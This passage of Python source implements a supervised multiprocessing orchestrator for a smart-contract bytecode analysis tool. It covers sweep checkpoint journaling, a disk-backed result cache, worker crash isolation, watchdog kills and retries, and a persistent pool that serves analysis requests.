    ``multiprocessing.Pool`` baseline (no watchdog/journal/retries).
    ``watchdog_seconds`` overrides the default budget-derived timeout of
    ``timeout_seconds * grace_factor``.
    """

    executor: str = "auto"  # "auto" | "orchestrator" | "pool" | "serial"
    mp_context: Optional[str] = None  # "fork" | "spawn" | "forkserver"
    max_retries: int = 2
    backoff_seconds: float = 0.05
    grace_factor: float = 4.0
    watchdog_seconds: Optional[float] = None
    recycle_after: Optional[int] = 64
    heartbeat_seconds: float = 5.0
    cache_entries: int = 256
    journal_path: Optional[str] = None
    resume: bool = False
    # Coalesce submissions sharing a sweep identity (sha256(bytecode) +
    # config fingerprint): one representative analysis per unique identity,
    # fanned out to every duplicate.  False restores one task per
    # submission (the ``--no-dedup`` escape hatch).
    dedup: bool = True
    # Directory for the cross-run ResultCache; None disables it.
    result_cache_path: Optional[str] = None
    # Tasks per worker dispatch message; None auto-sizes from the task
    # count (like the legacy pool's chunksize), capped by recycle_after.
    dispatch_chunk: Optional[int] = None
    # Worker-side task runner (a TASK_RUNNERS name): "sweep" analyzes a
    # bytecode payload under every spawn-time config; "request" analyzes a
    # (bytecode, config) payload — the serving daemon's per-request shape.
    task_runner: str = "sweep"
    on_event: Optional[Callable[[Dict], None]] = None
    fault_plan: Optional[FaultPlan] = None

    def effective_watchdog(self, config: AnalysisConfig) -> Optional[float]:
        if self.watchdog_seconds is not None:
            return self.watchdog_seconds
        if config.timeout_seconds is None:
            return None
        return config.timeout_seconds * self.grace_factor


@dataclass
class OrchestratorStats:
    """Sweep-level health counters, surfaced on every summary/report."""

    mode: str = "orchestrator"  # "orchestrator" | "pool" | "serial"
    workers: int = 0
    dispatched: int = 0  # tasks sent to workers, retries included
    completed: int = 0  # tasks that produced a result row
    retries: int = 0
    crashes: int = 0
    watchdog_kills: int = 0
    recycles: int = 0
    resumed: int = 0  # tasks resolved from the checkpoint journal
    # Dedup accounting: submissions vs unique sweep identities, duplicates
    # resolved by fanning out a representative's row, and representatives
    # resolved from the cross-run result cache without any analysis.
    tasks_total: int = 0
    tasks_unique: int = 0
    dedup_hits: int = 0
    result_cache_hits: int = 0
    ipc_batches: int = 0  # dispatch messages sent (dispatched / this = mean batch)
    heartbeats: int = 0
    elapsed_seconds: float = 0.0

    def as_dict(self) -> Dict[str, object]:
        payload = asdict(self)
        payload["elapsed_seconds"] = round(self.elapsed_seconds, 6)
        return payload


# ------------------------------------------------------------------ journal


def sweep_fingerprint(configs: Sequence[AnalysisConfig]) -> str:
    """Identity of a sweep configuration: every config field, budgets
    included (a journaled ``timeout`` entry is only valid under the same
    budget), over every battery configuration in order."""
    return "+".join(analysis_fingerprint(config) for config in configs)


def journal_key(runtime_bytecode: bytes, fingerprint: str) -> str:
    """Journal row identity: bytecode digest plus the sweep fingerprint
    (journaled entries are only reusable under the exact configuration
    that produced them)."""
    return "%s:%s" % (bytecode_digest(runtime_bytecode), fingerprint)


def _entry_to_dict(entry: BatchEntry) -> Dict:
    return asdict(entry)


def _entry_from_dict(data: Dict, index: Optional[int] = None) -> BatchEntry:
    known = {f.name for f in dataclass_fields(BatchEntry)}
    payload = {name: value for name, value in data.items() if name in known}
    payload["kinds"] = tuple(payload.get("kinds") or ())
    if index is not None:
        payload["index"] = index
    return BatchEntry(**payload)


class SweepJournal:
    """Append-only JSONL checkpoint of completed sweep rows.

    Line 1 is a header record carrying the sweep's configuration
    fingerprint; each subsequent line is ``{"key": ..., "index": ...,
    "entries": [...]}``.  Loading tolerates a truncated final line (the
    sweep was killed mid-write) by stopping at the first undecodable
    record, and discards the whole journal when the header fingerprint
    does not match the resuming sweep's configuration.
    """

    def __init__(self, path: str, fingerprint: str, resume: bool = False):
        self.path = path
        self.fingerprint = fingerprint
        self.completed: Dict[str, List[Dict]] = {}
        if resume and os.path.exists(path):
            self.completed = self._load(path, fingerprint)
            self._handle = open(path, "a")
        else:
            self._handle = open(path, "w")
            self._write(
                {
                    "journal": "repro-sweep",
                    "version": JOURNAL_VERSION,
                    "fingerprint": fingerprint,
                }
            )

    @staticmethod
    def _load(path: str, fingerprint: str) -> Dict[str, List[Dict]]:
        completed: Dict[str, List[Dict]] = {}
        with open(path) as handle:
            for line in handle:
                try:
                    record = json.loads(line)
                except json.JSONDecodeError:
                    break  # killed mid-write; everything before is valid
                if "journal" in record:
                    if (
                        record.get("fingerprint") != fingerprint
                        or record.get("version") != JOURNAL_VERSION
                    ):
                        return {}  # different sweep configuration: start over
                    continue
                key = record.get("key")
                entries = record.get("entries")
                if key and entries and key.endswith(fingerprint):
                    completed[key] = entries
        return completed

    def _write(self, record: Dict) -> None:
        # No sort_keys: entry dict ordering (stage order, precision counter
        # order) must survive the round-trip so a resumed sweep's report is
        # byte-identical to the uninterrupted one.
        self._handle.write(json.dumps(record) + "\n")
        self._handle.flush()

    def lookup(self, key: str) -> Optional[List[Dict]]:
        return self.completed.get(key)

    def record(self, key: str, index: int, row: Sequence[BatchEntry]) -> None:
        if key in self.completed:
            return
        entries = [_entry_to_dict(entry) for entry in row]
        self.completed[key] = entries
        self._write({"key": key, "index": index, "entries": entries})

    def close(self) -> None:
        self._handle.close()


# -------------------------------------------------------------- result cache


# Error taxonomy buckets that describe the *harness*, not the contract:
# never fanned into the result cache, never journaled — a later run gets a
# fresh attempt (the fault may have been environmental).
HARNESS_FAULT_KINDS = frozenset(
    {"worker_crashed", "watchdog_killed", "task_failed"}
)


def _is_harness_fault_row(row: Sequence[BatchEntry]) -> bool:
    return any(entry.error_kind in HARNESS_FAULT_KINDS for entry in row)


class ResultCache:
    """Supervisor-owned, disk-backed cache of completed sweep rows.

    Keyed by the same ``sha256(bytecode) + config fingerprint`` identity as
    the checkpoint journal and :class:`~repro.core.pipeline.ArtifactCache`,
    and storing the journal's :class:`BatchEntry` dict serialization — one
    JSON file per identity (sharded by key-digest prefix), written
    atomically via a temp file + ``os.replace``.  Repeated sweeps and warm
    daemon-style workloads (most submissions duplicate bytecode) resolve
    entire groups without any analysis.  Corrupt, torn, or mismatched
    files read as misses; analysis errors (``timeout``, ``lift-error``)
    are stored — the identity fingerprints the budget that produced them —
    but harness faults never are.
    """

    VERSION = 1

    def __init__(self, root: str):
        self.root = root
        self.hits = 0
        self.misses = 0
        self.stores = 0
        os.makedirs(root, exist_ok=True)

    def _path(self, key: str) -> str:
        digest = hashlib.sha256(key.encode("utf-8")).hexdigest()
        return os.path.join(self.root, digest[:2], digest + ".json")

    def get(self, key: str) -> Optional[List[Dict]]:
        """The cached entry dicts for ``key``, or None (counts hit/miss)."""
        try:
            with open(self._path(key)) as handle:
                record = json.load(handle)
        except (OSError, json.JSONDecodeError):
            self.misses += 1
            return None
        if (
            not isinstance(record, dict)
            or record.get("version") != self.VERSION
            or record.get("key") != key
            or not isinstance(record.get("entries"), list)
        ):
            self.misses += 1
            return None
        self.hits += 1
        return record["entries"]

    def put(self, key: str, entries: List[Dict]) -> None:
        path = self._path(key)
        if os.path.exists(path):
            return
        os.makedirs(os.path.dirname(path), exist_ok=True)
        payload = {
            "cache": "repro-sweep-results",
            "version": self.VERSION,
            "key": key,
            "entries": entries,
        }
        # No sort_keys, same as the journal: entry dict ordering must
        # survive the round-trip for byte-identical replayed reports.
        tmp = path + ".tmp.%d" % os.getpid()
        with open(tmp, "w") as handle:
            json.dump(payload, handle)
        os.replace(tmp, path)
        self.stores += 1


# ------------------------------------------------------------------ runners


def _run_sweep_task(configs, cache, warm, index, payload):
    """The batch shape: payload is runtime bytecode, one entry per
    spawn-time configuration (the Fig. 8 battery contract)."""
    return tuple(
        _entry_from_result(
            index,
            EthainterAnalysis(config, cache=cache, warm=warm).analyze(payload),
        )
        for config in configs
    )


def _run_request_task(configs, cache, warm, index, payload):
    """The serving shape: payload is ``(runtime, AnalysisConfig)`` — each
    request carries its own configuration, so one warm pool serves mixed
    engine/kinds/deadline traffic."""
    runtime, config = payload
    return (
        _entry_from_result(
            index,
            EthainterAnalysis(config, cache=cache, warm=warm).analyze(runtime),
        ),
    )


# Worker-side task runners, selected *by name* so the choice pickles across
# process boundaries under any start method.
TASK_RUNNERS: Dict[str, Callable] = {
    "sweep": _run_sweep_task,
    "request": _run_request_task,
}


# ------------------------------------------------------------------- worker


def _worker_main(
    worker_id: int,
    conn,
    configs: Tuple[AnalysisConfig, ...],
    cache_entries: int,
    recycle_after: Optional[int],
    fault_plan: Optional[FaultPlan],
    runner: str = "sweep",
) -> None:
    """Worker loop: one task in flight, on a private duplex pipe.

    Each worker owns its own :func:`multiprocessing.Pipe` rather than
    sharing a ``Queue``: shared queues serialize writers through a shared
    lock held by a feeder *thread*, and a worker hard-exiting inside that
    window (``os._exit``, SIGKILL, OOM) leaves the lock held forever,
    wedging every other worker — the supervisor must survive exactly those
    deaths.  A private pipe has a single writer per direction and no
    cross-process lock, so a dying worker can only corrupt its own
    channel, which the supervisor treats as the crash it is.

    Spawn-safe by construction: a top-level function whose arguments are
    all picklable; per-worker state (the artifact cache) is built here,
    never inherited.  Each message is a *chunk* — a list of ``(index,
    payload, attempt)`` tasks (payload shape per :data:`TASK_RUNNERS`
    entry), processed strictly in order so the
    supervisor always knows which task is in flight (the head of the
    chunk's unacknowledged remainder).  Replies stay per-task —
    ``("done", wid, index, attempt, row)`` or ``("fail", wid, index,
    attempt, message)`` — so crash isolation still costs one contract;
    only the dispatch direction is batched.  ``("recycle", wid)`` precedes
    a clean exit, only ever between chunks.
    """
    cache = ArtifactCache(cache_entries) if cache_entries > 0 else None
    warm = None
    if runner != "sweep":
        # The serving runner sees mixed per-request configurations, so the
        # warm fixpoint cache is always worth holding; the sweep runner
        # keeps its historical per-config behavior (byte-identical entries
        # against the serial executor).
        from repro.core.bytecode_datalog import WarmEngineCache

        warm = WarmEngineCache()
    run_task = TASK_RUNNERS[runner]
    done = 0
    while True:
        message = conn.recv()
        if message is None:
            return
        for index, payload, attempt in message:
            try:
                if fault_plan is not None:
                    fault_plan.apply(index, attempt)
                row = run_task(configs, cache, warm, index, payload)
                conn.send(("done", worker_id, index, attempt, row))
            except Exception as error:  # reported; the supervisor decides retry
                conn.send(
                    (
                        "fail",
                        worker_id,
                        index,
                        attempt,
                        "%s: %s" % (type(error).__name__, error),
                    )
                )
            done += 1
        if recycle_after is not None and done >= recycle_after:
            conn.send(("recycle", worker_id))
            return


class _Worker:
    """Supervisor-side view of one worker process."""

    __slots__ = ("process", "conn", "queue", "started", "retiring")

    def __init__(self, process, conn):
        self.process = process
        self.conn = conn
        # Dispatched-but-unacknowledged (index, attempt) tasks, in the
        # order the worker processes them: the head is the task in flight
        # (or about to be), so a crash charges exactly the head and the
        # rest of the chunk is requeued uncharged.
        self.queue: "deque[Tuple[int, int]]" = deque()
        # When the head task started (the previous reply's arrival, or the
        # chunk's dispatch); None while the queue is empty.
        self.started: Optional[float] = None
        self.retiring = False


class _PoolBroken(Exception):
    """Worker processes cannot be (re)spawned; degrade to in-process."""


# --------------------------------------------------------------- supervisor


class Orchestrator:
    """Supervises worker processes over one sweep's task list.

    Single-threaded supervisor: each loop iteration reaps dead workers
    (crash isolation), enforces the watchdog, dispatches ready tasks to
    idle workers (one in flight per worker, dispatched the moment its
    previous result drains — the blocking result-queue read wakes on
    arrival, so dispatch latency is queue latency, not poll latency), and
    emits heartbeats.  Workers carry unique ids for their whole lifetime,
    so late messages from a replaced worker can never be mis-attributed to
    its successor.
    """

    def __init__(
        self,
        configs: Tuple[AnalysisConfig, ...],
        jobs: int,
        options: OrchestratorOptions,
        stats: OrchestratorStats,
        journal: Optional[SweepJournal] = None,
        keys: Optional[Dict[int, str]] = None,
        persistent: bool = False,
    ):
        self.configs = configs
        self.jobs = jobs
        self.options = options
        self.stats = stats
        self.journal = journal
        self.keys = keys or {}
        self.context = resolve_mp_context(options.mp_context)
        self.watchdog = options.effective_watchdog(configs[0])
        self.rows: Dict[int, Tuple[BatchEntry, ...]] = {}
        # index -> task payload (runtime bytes for the sweep runner,
        # (runtime, config) for the request runner).
        self.tasks_by_index: Dict[int, object] = {}
        self.pending: "deque[Tuple[int, int, float]]" = deque()  # index, attempt, not_before
        self.workers: Dict[int, _Worker] = {}
        self.next_worker_id = 0
        self.chunk = 1  # set per run() from dispatch_chunk / task count
        # Persistent mode (PersistentPool): resolved tasks are *forgotten*
        # instead of accumulated in ``rows`` — a long-lived daemon must not
        # grow state per request — and each resolved row is handed to
        # ``on_row`` (the pool resolves the submitter's Future there).
        self.persistent = persistent
        self.on_row: Optional[Callable[[int, Tuple[BatchEntry, ...]], None]] = None
        # Optional readable fd included in the supervision wait set so an
        # external submitter can interrupt an idle wait immediately.
        self.wake_fd: Optional[int] = None
        self._started_at = time.monotonic()
        self._last_heartbeat = self._started_at

    # -- events

    def _emit(self, event: str, **data) -> None:
        if self.options.on_event is not None:
            payload = {"event": event}
            payload.update(data)
            self.options.on_event(payload)

    # -- worker lifecycle

    def _spawn_worker(self) -> None:
        worker_id = self.next_worker_id
        self.next_worker_id += 1
        try:
            parent_conn, child_conn = self.context.Pipe(duplex=True)
            process = self.context.Process(
                target=_worker_main,
                args=(
                    worker_id,
                    child_conn,
                    self.configs,
                    self.options.cache_entries,
                    self.options.recycle_after,
                    self.options.fault_plan,
                    self.options.task_runner,
                ),
                daemon=True,
            )
            process.start()
        except (OSError, RuntimeError) as error:
            raise _PoolBroken("%s: %s" % (type(error).__name__, error)) from error
        # Close the supervisor's copy of the child end so a worker death
        # surfaces as EOF on the parent end instead of a silent stall.
        child_conn.close()
        self.workers[worker_id] = _Worker(process, parent_conn)

    # -- task resolution

    def _requeue(self, index: int, attempt: int, delay: float = 0.0) -> None:
        self.pending.append((index, attempt, time.monotonic() + delay))

    def _record_row(
        self, index: int, row: Tuple[BatchEntry, ...], journal: bool
    ) -> None:
        if self.persistent:
            if index not in self.tasks_by_index:
                return  # late duplicate: a fault charge raced the real row
            del self.tasks_by_index[index]
            self.stats.completed += 1
            if self.on_row is not None:
                self.on_row(index, row)
            return
        if index in self.rows:
            # A worker that finished a task and then died before its result
            # drained gets charged a crash first; the real row wins.
            self.rows[index] = row
        else:
            self.rows[index] = row
            self.stats.completed += 1
        if journal and self.journal is not None and index in self.keys:
            self.journal.record(self.keys[index], index, row)

    def _fault_row(self, index: int, attempt: int, error: str, elapsed: float):
        """One error entry per battery configuration for a harness fault.

        Deliberately *not* journaled: crashes and hangs may be
        environmental, so a resumed run gets a fresh attempt at these
        contracts.
        """
        row = tuple(
            BatchEntry(
                index=index,
                kinds=(),
                error=error,
                elapsed_seconds=elapsed,
                statement_count=0,
                attempts=attempt + 1,
            )
            for _ in self.configs
        )
        self._record_row(index, row, journal=False)

    def _unresolved(self) -> int:
        return len(self.tasks_by_index) - len(self.rows)

    # -- supervision steps

    def _drain(self, worker: _Worker) -> None:
        """Read any replies a dead (or doomed) worker managed to send
        before its pipe is closed: tasks it *completed* get their real
        rows, so the crash charge lands on the task actually in flight."""
        try:
            while worker.conn.poll(0):
                self._handle_result(worker.conn.recv())
        except (EOFError, OSError):
            pass  # torn mid-message; everything drained so far stands

    def _reap(self) -> None:
        for worker_id, worker in list(self.workers.items()):
            if worker.process.exitcode is None:
                continue
            exitcode = worker.process.exitcode
            worker.process.join()
            self._drain(worker)
            worker.conn.close()
            del self.workers[worker_id]
            if exitcode == 0:
                # Clean exit (recycle, or a shutdown race): tasks that were
                # dispatched but never picked up are requeued, not charged.
                for index, attempt in worker.queue:
                    self._requeue(index, attempt)
            else:
                self.stats.crashes += 1
                if worker.queue:
                    index, attempt = worker.queue.popleft()
                    started = worker.started or time.monotonic()
                    self._emit(
                        "worker_crashed",
                        index=index,
                        exitcode=exitcode,
                        attempt=attempt,
                    )
                    self._fault_row(
                        index,
                        attempt,
                        "worker_crashed: worker exit code %s while analyzing "
                        "contract %d" % (exitcode, index),
                        time.monotonic() - started,
                    )
                    # The rest of the crashed worker's chunk was never
                    # started: requeue uncharged.
                    for idx, att in worker.queue:
                        self._requeue(idx, att)
                else:
                    self._emit("worker_crashed", index=None, exitcode=exitcode)
            worker.queue.clear()
            if self._unresolved() and len(self.workers) < self.jobs:
                self._spawn_worker()

    def _check_watchdog(self) -> None:
        if self.watchdog is None:
            return
        now = time.monotonic()
        for worker_id, worker in list(self.workers.items()):
            if (
                not worker.queue
                or worker.started is None
                or worker.process.exitcode is not None
            ):
                continue
            if now - worker.started <= self.watchdog:
                continue
            started = worker.started
            worker.process.kill()
            worker.process.join(timeout=5.0)
            self._drain(worker)
            worker.conn.close()
            del self.workers[worker_id]
            self.stats.watchdog_kills += 1
            if worker.queue:  # _drain may have resolved the whole chunk
                index, attempt = worker.queue.popleft()
                self._emit(
                    "watchdog_kill",
                    index=index,
                    attempt=attempt,
                    stuck_seconds=now - started,
                )
                self._fault_row(
                    index,
                    attempt,
                    "watchdog_killed: contract %d still running after %.3fs "
                    "(budget x grace = %.3fs)"
                    % (index, now - started, self.watchdog),
                    now - started,
                )
                for idx, att in worker.queue:
                    self._requeue(idx, att)
                worker.queue.clear()
            if self._unresolved() and len(self.workers) < self.jobs:
                self._spawn_worker()

    def _dispatch(self) -> None:
        if not self.pending:
            return
        now = time.monotonic()
        for worker in self.workers.values():
            if not self.pending:
                return
            if (
                len(worker.queue) > 1  # refill while the last task runs
                or worker.retiring
                or worker.process.exitcode is not None
            ):
                continue
            # Honor retry backoff: scan the (small) queue for ready tasks,
            # gathering up to one chunk per dispatch message.
            batch: List[Tuple[int, bytes, int]] = []
            for _ in range(len(self.pending)):
                if len(batch) >= self.chunk or not self.pending:
                    break
                index, attempt, not_before = self.pending[0]
                if not_before <= now:
                    self.pending.popleft()
                    batch.append((index, self.tasks_by_index[index], attempt))
                else:
                    self.pending.rotate(-1)
            if not batch:
                continue
            try:
                worker.conn.send(batch)
            except (OSError, ValueError):
                # Worker died before taking the chunk: requeue it
                # uncharged; _reap collects the corpse.
                for index, _runtime, attempt in batch:
                    self._requeue(index, attempt)
                continue
            if not worker.queue:
                worker.started = time.monotonic()
            worker.queue.extend(
                (index, attempt) for index, _runtime, attempt in batch
            )
            self.stats.dispatched += len(batch)
            self.stats.ipc_batches += 1

    def _handle_result(self, message) -> None:
        kind = message[0]
        if kind == "recycle":
            _, worker_id = message
            worker = self.workers.get(worker_id)
            if worker is not None:
                worker.retiring = True
            self.stats.recycles += 1
            self._emit("recycle", worker=worker_id)
            return
        _, worker_id, index, attempt, payload = message
        worker = self.workers.get(worker_id)
        if worker is not None and worker.queue and worker.queue[0][0] == index:
            worker.queue.popleft()
            worker.started = time.monotonic() if worker.queue else None
        if kind == "done":
            row = tuple(
                _entry_with_attempts(entry, attempt + 1) for entry in payload
            )
            self._record_row(index, row, journal=True)
            self._emit("task_done", index=index, attempt=attempt)
        elif kind == "fail":
            if index in self.rows or index not in self.tasks_by_index:
                return  # already resolved (e.g. watchdog raced the reply)
            if attempt < self.options.max_retries:
                self.stats.retries += 1
                delay = self.options.backoff_seconds * (2 ** attempt)
                self._requeue(index, attempt + 1, delay)
                self._emit(
                    "retry", index=index, attempt=attempt + 1, error=payload
                )
            else:
                self._fault_row(
                    index,
                    attempt,
                    "task_failed: %s (after %d attempt(s))"
                    % (payload, attempt + 1),
                    0.0,
                )
                self._emit("task_failed", index=index, error=payload)

    # -- main loop

    def _effective_chunk(self, task_count: int) -> int:
        """Tasks per dispatch message: explicit, or auto-sized like the
        legacy pool's chunksize, capped so recycling still bounds worker
        lifetime and no single worker hoards the queue."""
        chunk = self.options.dispatch_chunk
        if chunk is None:
            chunk = min(32, task_count // (max(1, self.jobs) * 4))
        if self.options.recycle_after is not None:
            chunk = min(chunk, self.options.recycle_after)
        return max(1, chunk)

    def _begin(self) -> None:
        self._started_at = time.monotonic()
        self._last_heartbeat = self._started_at

    def _step(self, timeout: float = 0.05) -> None:
        """One supervision iteration: reap, watchdog, dispatch, then wait
        for worker replies / deaths / an external wake.  Both the one-shot
        sweep (:meth:`run`) and the long-lived :class:`PersistentPool`
        drive this method; it never blocks longer than ``timeout``."""
        self._reap()
        self._check_watchdog()
        self._dispatch()
        # Wake on any worker's reply *or* death (process sentinels), so
        # dispatch latency and crash reaction are both bounded by pipe
        # latency, not the poll interval.
        waitables: List[object] = [
            worker.conn for worker in self.workers.values()
        ] + [
            worker.process.sentinel for worker in self.workers.values()
        ]
        if self.wake_fd is not None:
            waitables.append(self.wake_fd)
        if waitables:
            for ready in mp_connection.wait(waitables, timeout=timeout):
                if self.wake_fd is not None and ready == self.wake_fd:
                    try:
                        os.read(self.wake_fd, 65536)
                    except OSError:  # pragma: no cover - torn wake pipe
                        pass
                    continue
                if not hasattr(ready, "recv"):
                    continue  # a sentinel fired; _reap handles it
                try:
                    self._handle_result(ready.recv())
                except (EOFError, OSError):
                    pass  # worker died mid-reply; _reap charges it
        elif timeout:
            time.sleep(min(timeout, 0.01))
        now = time.monotonic()
        if now - self._last_heartbeat >= self.options.heartbeat_seconds:
            self._last_heartbeat = now
            self.stats.heartbeats += 1
            elapsed = now - self._started_at
            self._emit(
                "heartbeat",
                completed=self.stats.completed,
                total=self.stats.completed + self._unresolved()
                if self.persistent
                else len(self.tasks_by_index),
                in_flight=sum(
                    len(worker.queue) for worker in self.workers.values()
                ),
                retries=self.stats.retries,
                crashes=self.stats.crashes,
                watchdog_kills=self.stats.watchdog_kills,
                recycles=self.stats.recycles,
                elapsed_seconds=elapsed,
                throughput=(
                    self.stats.completed / elapsed if elapsed > 0 else 0.0
                ),
            )

    def run(
        self, tasks: List[Tuple[int, bytes]]
    ) -> Dict[int, Tuple[BatchEntry, ...]]:
        self.tasks_by_index = dict(tasks)
        self.chunk = self._effective_chunk(len(tasks))
        for index, _runtime in tasks:
            self._requeue(index, attempt=0)
        try:
            while len(self.workers) < min(self.jobs, len(tasks)):
                self._spawn_worker()
            self.stats.workers = len(self.workers)
            self._begin()
            while self._unresolved():
                self._step()
        finally:
            self._shutdown()
        return self.rows

    def _shutdown(self) -> None:
        for worker in self.workers.values():
            if worker.process.exitcode is None:
                try:
                    worker.conn.send(None)
                except (OSError, ValueError):  # pragma: no cover - dead pipe
                    pass
        for worker in self.workers.values():
            worker.process.join(timeout=0.5)
            if worker.process.exitcode is None:
                worker.process.kill()
                worker.process.join(timeout=5.0)
            worker.conn.close()
        self.workers.clear()


# ------------------------------------------------------------ serving pool


class PersistentPool:
    """A long-lived supervised worker pool decoupled from any one sweep.

    This is the serving backend behind ``repro serve``: worker processes
    stay warm across requests, each submission is one ``"request"``-runner
    task carrying its own :class:`AnalysisConfig` (so a single pool serves
    mixed engine/kinds/deadline traffic), and :meth:`submit` returns a
    :class:`concurrent.futures.Future` resolving to the task's row — a
    1-tuple of :class:`BatchEntry`, the same shape a single-config sweep
    produces, so every report builder downstream works unchanged.

    Supervision runs on a dedicated thread driving
    :meth:`Orchestrator._step`; submissions cross into it via a
    ``SimpleQueue`` plus a wake pipe included in the supervisor's wait
    set, so an idle pool reacts to a new request at pipe latency, not
    poll latency.  All of the sweep harness survives intact: watchdog
    SIGKILL for hung workers (budget derived from the pool's *base*
    config — per-request deadlines above it are clamped by the kill),
    crash isolation charging exactly the in-flight request, bounded
    retries with backoff, and worker recycling.

    ``jobs=0`` runs every request inline on the pool thread (no worker
    processes — the single-operator deployment), and a failed spawn
    (:class:`_PoolBroken`) degrades to the same inline mode mid-flight:
    open requests are re-run in-process, recorded in ``stats.mode``,
    never dropped.  Inline mode holds a warm
    :class:`~repro.core.bytecode_datalog.WarmEngineCache` and
    :class:`ArtifactCache` across requests, mirroring what warm workers
    hold.

    ``task_hook`` is a test seam: called (inline mode only) with
    ``(index, runtime, config)`` before each analysis, letting tests
    hold the pool busy deterministically to exercise admission limits.
    """

    def __init__(
        self,
        jobs: int = 1,
        options: Optional[OrchestratorOptions] = None,
        config: Optional[AnalysisConfig] = None,
    ):
        self.config = config if config is not None else AnalysisConfig()
        self.jobs = max(0, jobs)
        self.options = dataclass_replace(
            options or OrchestratorOptions(), task_runner="request"
        )
        self.stats = OrchestratorStats(
            mode="persistent" if self.jobs > 0 else "inline"
        )
        self.task_hook: Optional[
            Callable[[int, bytes, AnalysisConfig], None]
        ] = None
        self._lock = threading.Lock()
        self._inbox: "queue_module.SimpleQueue" = queue_module.SimpleQueue()
        self._futures: Dict[int, Future] = {}
        self._next_index = 0
        self._open = 0
        self._closed = False
        self._abandon = False
        self._inline_cache: Optional[ArtifactCache] = None
        self._inline_warm = None
        if self.jobs > 0:
            self._wake_read, self._wake_write = os.pipe()
            self._supervisor: Optional[Orchestrator] = Orchestrator(
                (self.config,),
                self.jobs,
                self.options,
                self.stats,
                persistent=True,
            )
            self._supervisor.wake_fd = self._wake_read
            self._supervisor.on_row = self._finish
            # Serving trades batching for latency: one request per
            # dispatch message unless explicitly chunked.
            self._supervisor.chunk = max(1, self.options.dispatch_chunk or 1)
        else:
            self._wake_read = self._wake_write = None
            self._supervisor = None
        self._thread = threading.Thread(
            target=self._loop, name="repro-persistent-pool", daemon=True
        )
        self._thread.start()

    # -- submission side (any thread)

    @property
    def outstanding(self) -> int:
        """Submitted-but-unresolved request count (admission control)."""
        with self._lock:
            return self._open

    def submit(
        self, runtime: bytes, config: Optional[AnalysisConfig] = None
    ) -> "Future[Tuple[BatchEntry, ...]]":
        """Queue one analysis request; resolves to its row (1 entry).

        Harness faults (crash / watchdog / exhausted retries) resolve the
        future with an *error row*, never an exception — the same
        contract sweeps have — so the caller inspects ``entry.error``.
        The future only raises if the pool is torn down underneath it.
        """
        if config is None:
            config = self.config
        future: "Future[Tuple[BatchEntry, ...]]" = Future()
        with self._lock:
            if self._closed:
                raise RuntimeError("PersistentPool is closed")
            index = self._next_index
            self._next_index += 1
            self._open += 1
            self.stats.tasks_total += 1
            self._futures[index] = future
            self._inbox.put((index, runtime, config))
        self._wake()
        return future

    def close(self, wait: bool = True) -> None:
        """Stop accepting requests; drain (default) or abandon open ones.

        ``wait=True`` is the graceful SIGTERM path: every already-admitted
        request completes and resolves its future before workers are torn
        down.  ``wait=False`` cancels whatever is still open.
        """
        with self._lock:
            self._closed = True
            if not wait:
                self._abandon = True
        self._wake()
        if self._thread.is_alive():
            self._thread.join()
        if self._wake_read is not None:
            for fd in (self._wake_read, self._wake_write):
                try:
                    os.close(fd)
                except OSError:  # pragma: no cover - already closed
                    pass
            self._wake_read = self._wake_write = None

    def __enter__(self) -> "PersistentPool":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close(wait=True)

    # -- pool thread

    def _wake(self) -> None:
        if self._wake_write is not None:
            try:
                os.write(self._wake_write, b"\0")
            except OSError:  # pragma: no cover - pool already torn down
                pass

    def _loop(self) -> None:
        inline = self._supervisor is None
        supervisor = self._supervisor
        if supervisor is not None:
            supervisor._begin()
        try:
            while not self._abandon:
                if not inline:
                    try:
                        self._drain_inbox(supervisor)
                        if (
                            self._closed
                            and not supervisor._unresolved()
                            and self._inbox.empty()
                        ):
                            break
                        self._maintain_workers(supervisor)
                        supervisor._step(timeout=0.2)
                    except _PoolBroken as broken:
                        inline = True
                        self.stats.mode = "inline"
                        if self.options.on_event is not None:
                            self.options.on_event(
                                {"event": "degraded", "reason": str(broken)}
                            )
                        open_tasks = sorted(supervisor.tasks_by_index.items())
                        supervisor.tasks_by_index.clear()
                        supervisor.pending.clear()
                        supervisor._shutdown()
                        for index, (runtime, config) in open_tasks:
                            self._run_inline(index, runtime, config)
                else:
                    try:
                        index, runtime, config = self._inbox.get(timeout=0.2)
                    except queue_module.Empty:
                        if self._closed:
                            break
                        continue
                    self._run_inline(index, runtime, config)
        finally:
            if supervisor is not None:
                supervisor._shutdown()
            self._cancel_open()

    def _drain_inbox(self, supervisor: Orchestrator) -> None:
        while True:
            try:
                index, runtime, config = self._inbox.get_nowait()
            except queue_module.Empty:
                return
            supervisor.tasks_by_index[index] = (runtime, config)
            supervisor._requeue(index, attempt=0)

    def _maintain_workers(self, supervisor: Orchestrator) -> None:
        # Keep the pool warm at full strength (recycled/crashed workers
        # respawn even while idle — the next request must not pay a spawn).
        while len(supervisor.workers) < self.jobs:
            supervisor._spawn_worker()
        if len(supervisor.workers) > self.stats.workers:
            self.stats.workers = len(supervisor.workers)

    def _run_inline(self, index: int, runtime: bytes, config) -> None:
        if self._inline_cache is None and self.options.cache_entries > 0:
            self._inline_cache = ArtifactCache(self.options.cache_entries)
        if self._inline_warm is None:
            from repro.core.bytecode_datalog import WarmEngineCache

            self._inline_warm = WarmEngineCache()
        if self.stats.workers == 0:
            self.stats.workers = 1
        hook = self.task_hook
        if hook is not None:
            hook(index, runtime, config)
        try:
            row = _run_request_task(
                (config,),
                self._inline_cache,
                self._inline_warm,
                index,
                (runtime, config),
            )
        except Exception as error:  # same surface as an exhausted retry
            row = (
                BatchEntry(
                    index=index,
                    kinds=(),
                    error="task_failed: %s: %s (after 1 attempt(s))"
                    % (type(error).__name__, error),
                    elapsed_seconds=0.0,
                    statement_count=0,
                    attempts=1,
                ),
            )
        self.stats.dispatched += 1
        self.stats.completed += 1
        self._finish(index, row)

    def _finish(self, index: int, row: Tuple[BatchEntry, ...]) -> None:
        with self._lock:
            future = self._futures.pop(index, None)
            self._open -= 1
        if future is not None:
            try:
                future.set_result(row)
            except Exception:  # pragma: no cover - submitter cancelled
                pass

    def _cancel_open(self) -> None:
        with self._lock:
            futures = list(self._futures.values())
            self._futures.clear()
            self._open = 0
        for future in futures:
            future.cancel()


def _entry_with_attempts(entry: BatchEntry, attempts: int) -> BatchEntry:
    if attempts != entry.attempts:
        entry.attempts = attempts
    return entry


def _entry_with_index(entry: BatchEntry, index: int) -> BatchEntry:
    """A representative's entry re-addressed to a duplicate submission.

    Mutable fields are copied (never aliased) so per-entry consumers can
    edit one submission's report without corrupting its group; everything
    else — verdicts, warnings, timings, counters — is the representative's
